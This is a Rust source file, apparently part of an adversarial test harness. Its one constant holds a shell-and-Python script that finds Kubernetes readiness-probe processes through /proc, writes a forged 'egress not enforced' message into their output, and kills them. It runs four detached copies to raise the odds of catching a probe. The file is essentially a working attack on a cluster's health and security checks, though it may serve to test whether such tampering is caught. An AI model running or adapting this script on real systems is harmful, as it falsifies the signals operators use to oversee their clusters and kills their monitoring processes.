//! Lying to the kubelet by what its probes print.

/// Writes to the output of every readiness probe in this pod that the network is open, and ends it as a failure. A probe lives
/// for milliseconds: several liars leave it less of the pod's processor, and so more time in which it is seen.
pub const LIAR: &str = r#"
cat >/tmp/liar.py <<'PY'
import os, signal, time
end = time.time() + 170
done = set()
while time.time() < end:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid in done or int(pid) in (1, os.getpid()):
            continue
        try:
            if b"probe" not in open(f"/proc/{pid}/cmdline", "rb").read():
                continue
            done.add(pid)
        except OSError:
            continue
        for fd in (1, 2):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as out:
                    out.write(b"EgressNotEnforced: a direct connection to 10.96.0.1:443 succeeded: attack-lie\n")
            except OSError:
                pass
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
PY
for liar in 1 2 3 4; do setsid python3 /tmp/liar.py >/dev/null 2>&1 & done
"#;
